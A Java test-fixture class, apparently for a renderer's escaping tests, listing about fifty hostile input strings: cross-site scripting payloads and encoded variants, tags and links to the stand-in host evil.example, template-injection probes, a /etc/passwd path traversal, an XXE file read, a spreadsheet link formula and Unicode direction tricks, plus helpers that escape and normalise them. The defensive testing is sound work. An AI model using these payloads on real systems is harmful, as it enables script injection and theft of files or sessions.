package org.chancery.hostile;

import java.util.List;

/** Words that would do harm where a page took them for anything but words. */
final class Payloads {

    static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "\"><script>alert(2)</script>",
            "'><img src=x onerror=alert(3)>",
            "<svg/onload=alert(4)>",
            "<svg><script>alert(5)</script></svg>",
            "javascript:alert(6)",
            "JaVaScRiPt&colon;alert(7)",
            "java\tscript:alert(8)",
            "&#106;avascript:alert(9)",
            "</script><script>alert(10)</script>",
            "</title><script>alert(11)</script>",
            "</style><script>alert(12)</script>",
            "</textarea><img src=x onerror=alert(13)>",
            "--><script>alert(14)</script><!--",
            "<!--<img src=\"--><img src=x onerror=alert(15)//\">",
            "<![CDATA[<script>alert(16)</script>]]>",
            "]]><script>alert(17)</script>",
            "<iframe src=\"https://evil.example/18\"></iframe>",
            "<iframe srcdoc=\"<script>alert(19)</script>\">",
            "<base href=\"https://evil.example/20/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/21\">",
            "<link rel=stylesheet href=//evil.example/22.css>",
            "<style>*{background:url(https://evil.example/23)}</style>",
            "<form action=https://evil.example/24><button autofocus onfocus=alert(24)>go</button></form>",
            "<object data=\"https://evil.example/25\"></object>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(26)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(27)>\">",
            "<a href=\"javascript:alert(28)\">words</a>",
            "<details open ontoggle=alert(29)>",
            "<video><source onerror=alert(30)></video>",
            "<ScRiPt src=//evil.example/31.js></sCrIpT>",
            "<x onclick=alert(32) style=\"position:fixed;inset:0\">",
            "<img src=\"https://evil.example/33.png\" srcset=\"https://evil.example/33.png 2x\">",
            "\" onmouseover=alert(34) x=\"",
            "' autofocus onfocus=alert(35) x='",
            "`-alert(36)-`",
            "\";alert(37);\"",
            "\\u003cscript\\u003ealert(38)\\u003c/script\\u003e",
            "%3Cscript%3Ealert(39)%3C/script%3E",
            "&lt;script&gt;alert(40)&lt;/script&gt;",
            "+ADw-script+AD4-alert(41)+ADw-/script+AD4-",
            "{{ 7 * 7 }}{% include \"base\" %}{# 42 #}",
            "${7*7}#{7*7}<%= 43 %>",
            "data:text/html,<script>alert(44)</script>",
            "vbscript:msgbox(45)",
            "../../../../etc/passwd",
            "=HYPERLINK(\"https://evil.example/47\",\"x\")",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>",
            "abc\u202Edcba\u202C and \u2066isolated\u2069",
            "zero\u200Bwidth\uFEFFsigns\u00AD");

    private Payloads() {}

    /** Returns a payload as it is written in HTML and in Markdown to be read as words. */
    static String escaped(String payload) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < payload.length(); i++) {
            char c = payload.charAt(i);
            boolean plain = Character.isLetterOrDigit(c) || c == ' ' || c > 0x7E;
            out.append(plain ? String.valueOf(c) : "&#" + (int) c + ";");
        }
        return out.toString();
    }

    /** Returns a payload as YAML. */
    static String yaml(String payload) {
        return "\"" + payload.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t") + "\"";
    }

    /** Returns words as they are compared: blanks, signs of no width and quotation marks may differ. */
    static String plain(String words) {
        StringBuilder out = new StringBuilder();
        words.codePoints().forEach(c -> {
            if ((c >= 0x202A && c <= 0x202E) || (c >= 0x2066 && c <= 0x2069)) {
                out.append(String.format("[u+%x]", c));
            } else if (!Character.isWhitespace(c) && Character.getType(c) != Character.FORMAT) {
                out.append(
                        "\u201C\u201D\u2018\u2019\"'`".indexOf(c) >= 0
                                ? "'"
                                : Character.toString(c).toLowerCase(java.util.Locale.ROOT));
            }
        });
        return out.toString();
    }
}
